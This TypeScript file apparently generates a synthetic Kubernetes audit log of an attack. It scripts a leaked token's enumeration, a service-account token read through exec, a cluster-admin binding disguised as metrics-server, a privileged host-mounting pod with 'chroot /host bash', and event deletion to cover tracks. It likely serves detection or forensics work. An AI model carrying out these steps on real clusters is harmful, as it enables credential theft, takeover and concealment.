// The attack, step by step: from a leaked token to cluster-admin, and the tracks covered.
import {
  ALICE_ALLOWED,
  at,
  byCluster,
  credentialOf,
  KCM,
  kubelet,
  MS,
  NODES,
  resourceVersionAt,
  SECOND,
  uidOf,
} from '../cluster.ts';
import type {Fields} from '../encode.ts';
import {conflict} from '../failures.ts';
import {
  clusterRoleBinding,
  fakeToken,
  INTERNAL_DELETE_OPTIONS,
  list,
  metadata,
  pod,
  second,
  secret,
} from '../objects.ts';
import type {Call} from '../record.ts';
import {
  AGENT,
  AGENT_POD,
  AS_ADMIN,
  ATTACKER_IP,
  ago,
  BASIC_USER,
  BINDING,
  core,
  DISCOVERY,
  dbCredentials,
  denied,
  did,
  MANAGER,
  PROD,
  RBAC,
  rbac,
  review,
  STALE,
  THIEF,
  WEBAPP_ENV,
  webapp,
} from './scene.ts';

const enumeration: readonly Call[] = [
  {
    at: at('09:41:07.204'),
    took: 500,
    actor: THIEF,
    verb: 'get',
    uri: '/version',
    code: 200,
    allowedBy: DISCOVERY,
    annotations: STALE,
  },
  did('09:41:09.518', 3 * MS, THIEF, 'create', review('selfsubjectrulesreviews'), 201, {
    allowedBy: BASIC_USER,
    request: {apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectRulesReview', spec: {namespace: 'build'}},
    annotations: STALE,
  }),
  denied('09:41:15.031', 'list', core('secrets')),
  denied('09:41:15.660', 'list', core('namespaces')),
  denied('09:41:16.207', 'list', core('nodes')),
  denied('09:41:16.811', 'list', core('pods')),
  denied('09:41:17.390', 'list', rbac('clusterrolebindings')),
  denied('09:41:29.004', 'list', core('secrets', 'kube-system')),
  denied('09:41:29.611', 'list', core('secrets', 'default')),
  denied('09:41:30.377', 'list', core('secrets', 'argocd')),
  did('09:42:02.950', 3 * MS, THIEF, 'create', review('selfsubjectrulesreviews'), 201, {
    allowedBy: BASIC_USER,
    request: {apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectRulesReview', spec: {namespace: PROD}},
  }),
  did('09:42:18.227', 6 * MS, THIEF, 'list', core('secrets', PROD), 200, {
    response: list(
      'SecretList',
      'v1',
      [
        dbCredentials(at('09:42:18')),
        secret(
          PROD,
          'webapp-tls',
          {
            'tls.crt': '-----BEGIN CERTIFICATE-----\nFAKE\n-----END CERTIFICATE-----',
            'tls.key': '-----BEGIN FAKE KEY-----\nnot a key\n-----END FAKE KEY-----',
          },
          at('09:42:18'),
          'kubernetes.io/tls',
        ),
      ],
      at('09:42:18'),
    ),
  }),
];

const EXEC_COMMAND = ['sh', '-c', 'id; env; cat /var/run/secrets/kubernetes.io/serviceaccount/token'];
const execQuery = (container: string, command: readonly string[]) =>
  `${command.map(word => `command=${encodeURIComponent(word).replaceAll('%20', '+')}`).join('&')}&container=${container}&stderr=true&stdin=true&stdout=true`;

const foothold: readonly Call[] = [
  did('09:43:31.016', 4 * MS, THIEF, 'get', core('secrets', PROD, 'db-credentials'), 200, {
    response: dbCredentials(at('09:43:31')),
  }),
  did('09:44:12.730', 5 * MS, THIEF, 'list', core('pods', PROD), 200, {
    response: list('PodList', 'v1', [webapp(at('09:44:12'), ago(at('09:44:12'), 3))], at('09:44:12')),
  }),
  did(
    '09:46:22.108',
    268 * SECOND + 417_003,
    {...THIEF, userAgent: 'curl/8.5.0'},
    'get',
    core('pods', PROD, 'webapp-pod', 'exec'),
    101,
    {
      query: execQuery('webapp', EXEC_COMMAND),
    },
  ),
  did('09:54:40.290', 4 * MS, THIEF, 'list', core('serviceaccounts', PROD), 200, {
    response: list(
      'ServiceAccountList',
      'v1',
      ['default', 'webapp', 'release-manager'].map(name => ({
        metadata: metadata({
          resource: 'serviceaccounts',
          namespace: PROD,
          name,
          created: ago(at('09:54:40'), 90),
          now: ago(at('09:54:40'), 90),
        }),
      })),
      at('09:54:40'),
    ),
  }),
];

const issuedAt = at('09:55:10.400');
const JTI = credentialOf('release-manager/issued');

const escalation: readonly Call[] = [
  did('09:55:10.400', 9 * MS, THIEF, 'create', core('serviceaccounts', PROD, 'release-manager', 'token'), 201, {
    request: {
      apiVersion: 'authentication.k8s.io/v1',
      kind: 'TokenRequest',
      spec: {audiences: null, expirationSeconds: 86_400},
    },
    response: {
      kind: 'TokenRequest',
      apiVersion: 'authentication.k8s.io/v1',
      metadata: {name: 'release-manager', namespace: PROD, creationTimestamp: second(issuedAt)},
      spec: {
        audiences: ['https://kubernetes.default.svc.example.com'],
        expirationSeconds: 86_400,
        boundObjectRef: null,
      },
      status: {
        token: fakeToken(PROD, 'release-manager', JTI.slice('JTI='.length), issuedAt + 86_400 * SECOND),
        expirationTimestamp: second(issuedAt + 86_400 * SECOND),
      },
    },
    annotations: {'authentication.kubernetes.io/issued-credential-id': JTI, ...STALE},
  }),
  did('09:55:41.733', 3 * MS, MANAGER, 'create', review('selfsubjectaccessreviews'), 201, {
    allowedBy: BASIC_USER,
    request: {
      apiVersion: 'authorization.k8s.io/v1',
      kind: 'SelfSubjectAccessReview',
      spec: {resourceAttributes: {group: RBAC, resource: 'clusterrolebindings', verb: 'create'}},
    },
  }),
  did('09:56:02.871', 8 * MS, MANAGER, 'create', rbac('clusterrolebindings', BINDING), 201, {
    request: {
      apiVersion: `${RBAC}/v1`,
      kind: 'ClusterRoleBinding',
      metadata: {
        labels: {'app.kubernetes.io/name': 'metrics-server', 'app.kubernetes.io/managed-by': 'Helm'},
        name: BINDING,
      },
      roleRef: {apiGroup: RBAC, kind: 'ClusterRole', name: 'cluster-admin'},
      subjects: [{kind: 'ServiceAccount', name: 'release-manager', namespace: PROD}],
    },
    response: clusterRoleBinding(
      BINDING,
      'cluster-admin',
      {kind: 'ServiceAccount', name: 'release-manager', namespace: PROD},
      {'app.kubernetes.io/name': 'metrics-server', 'app.kubernetes.io/managed-by': 'Helm'},
      at('09:56:02.871'),
      AGENT.split('/')[0]!,
    ),
  }),
  did('09:57:15.120', 48 * MS, {...MANAGER, sourceIPs: ['10.0.3.17', ATTACKER_IP]}, 'list', core('secrets'), 200, {
    allowedBy: AS_ADMIN,
  }),
];

const AGENT_SPEC: Fields = {
  containers: [
    {
      command: ['sleep', '86400'],
      image: 'registry.example.net/tools/agent:latest',
      name: 'agent',
      securityContext: {privileged: true},
      volumeMounts: [{mountPath: '/host', name: 'root'}],
    },
  ],
  hostNetwork: true,
  hostPID: true,
  nodeName: 'cp-1',
  tolerations: [{operator: 'Exists'}],
  volumes: [{hostPath: {path: '/', type: ''}, name: 'root'}],
};
const agentMeta = metadata({
  resource: 'pods',
  namespace: 'kube-system',
  name: AGENT_POD,
  created: at('09:58:30'),
  now: at('09:58:30'),
  labels: {'k8s-app': 'metrics-server'},
  manager: 'python-requests',
});
const agentRef = core('pods', 'kube-system', AGENT_POD);

const ontoTheNode: readonly Call[] = [
  did('09:58:30.644', 22 * MS, MANAGER, 'create', agentRef, 201, {
    allowedBy: AS_ADMIN,
    request: {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: {labels: {'k8s-app': 'metrics-server'}, name: AGENT_POD, namespace: 'kube-system'},
      spec: AGENT_SPEC,
    },
    response: {
      kind: 'Pod',
      apiVersion: 'v1',
      metadata: agentMeta,
      spec: AGENT_SPEC,
      status: {phase: 'Pending', qosClass: 'BestEffort'},
    },
    annotations: {
      'pod-security.kubernetes.io/enforce-policy': 'privileged:latest',
      'pod-security.kubernetes.io/audit-violations':
        'would violate PodSecurity "restricted:latest": host namespaces (hostNetwork=true, hostPID=true), privileged (container "agent" must not set securityContext.privileged=true), restricted volume types (volume "root" uses restricted volume type "hostPath"), runAsNonRoot != true (pod or container "agent" must set securityContext.runAsNonRoot=true)',
    },
  }),
  did('09:58:32.900', 7 * MS, kubelet(NODES[0]), 'patch', core('pods', 'kube-system', AGENT_POD, 'status'), 200, {
    request: {
      status: {
        conditions: [{lastTransitionTime: second(at('09:58:32')), status: 'True', type: 'Ready'}],
        phase: 'Running',
      },
    },
  }),
  did(
    '09:59:05.310',
    154 * SECOND + 88_120,
    {...MANAGER, userAgent: 'curl/8.5.0'},
    'create',
    core('pods', 'kube-system', AGENT_POD, 'exec'),
    101,
    {
      allowedBy: AS_ADMIN,
      query: execQuery('agent', ['chroot', '/host', 'bash']),
    },
  ),
];

const DELETED_AT = at('10:02:11.279');

/** The pod's end is put down to alice: the user is the service account, alice is only impersonated. */
const tracks: readonly Call[] = [
  did('10:02:11.279', 31 * MS, MANAGER, 'delete', core('pods', PROD, 'webapp-pod'), 200, {
    as: {username: 'alice@example.com', groups: ['system:authenticated']},
    allowedBy: ALICE_ALLOWED,
    request: {apiVersion: 'v1', gracePeriodSeconds: 0, kind: 'DeleteOptions', propagationPolicy: 'Background'},
    response: pod({
      namespace: PROD,
      name: 'webapp-pod',
      app: 'webapp',
      image: 'registry.example.com/shop/webapp:3.14.2',
      node: 'worker-2',
      ip: '10.244.2.41',
      created: ago(at('09:44:12'), 3),
      now: DELETED_AT,
      env: WEBAPP_ENV,
      serviceAccount: 'webapp',
      deleting: {at: DELETED_AT, graceSeconds: 0},
    }),
  }),
  ...[PROD, 'kube-system'].map((namespace, i): Call => {
    const time = at(i === 0 ? '10:03:20.112' : '10:03:21.440');
    return {
      at: time,
      took: (i === 0 ? 31 : 640) * MS,
      actor: MANAGER,
      verb: 'deletecollection',
      ref: core('events', namespace),
      code: 200,
      allowedBy: AS_ADMIN,
      request: INTERNAL_DELETE_OPTIONS,
      response: list('EventList', 'v1', [], time),
    };
  }),
  did('10:04:05.800', 9 * MS, MANAGER, 'delete', rbac('clusterrolebindings', BINDING), 409, {
    allowedBy: AS_ADMIN,
    request: {apiVersion: 'v1', kind: 'DeleteOptions', preconditions: {uid: uidOf('a binding that is no more')}},
    failure: conflict(
      'clusterrolebindings',
      BINDING,
      RBAC,
      `the UID in the precondition (${uidOf('a binding that is no more')}) does not match the UID in record (${uidOf(`clusterrolebindings/${BINDING}`)}). The object might have been deleted and then recreated`,
    ),
  }),
  did('10:04:31.205', 14 * MS, MANAGER, 'delete', agentRef, 200, {
    allowedBy: AS_ADMIN,
    request: {apiVersion: 'v1', gracePeriodSeconds: 0, kind: 'DeleteOptions'},
    response: {
      kind: 'Pod',
      apiVersion: 'v1',
      metadata: agentMeta,
      spec: AGENT_SPEC,
      status: {phase: 'Running', qosClass: 'BestEffort'},
    },
  }),
  did('10:05:40.018', 44 * MS, MANAGER, 'list', core('secrets'), 200, {allowedBy: AS_ADMIN}),
];

/** A cluster that lost a pod says so: the endpoints of its Service run empty. */
const consequences: readonly Call[] = [
  {
    at: DELETED_AT + 95 * MS,
    took: 6 * MS,
    actor: {
      ...KCM,
      allowedBy: byCluster(
        'system:controller:endpoint-controller',
        'system:controller:endpoint-controller',
        'ServiceAccount "endpoint-controller/kube-system"',
      ),
    },
    verb: 'update',
    ref: {
      ...core('endpoints', PROD, 'webapp'),
      uid: uidOf('endpoints/prod-namespace/webapp'),
      resourceVersion: resourceVersionAt(at('09:00:00')),
    },
    code: 200,
    request: {kind: 'Endpoints', apiVersion: 'v1', metadata: {name: 'webapp', namespace: PROD}},
    response: {
      kind: 'Endpoints',
      apiVersion: 'v1',
      metadata: metadata({
        resource: 'endpoints',
        namespace: PROD,
        name: 'webapp',
        created: ago(DELETED_AT, 90),
        now: DELETED_AT,
      }),
    },
    annotations: {'k8s.io/deprecated': 'true'},
  },
];

export const attack = (): Call[] => [
  ...enumeration,
  ...foothold,
  ...escalation,
  ...ontoTheNode,
  ...tracks,
  ...consequences,
];
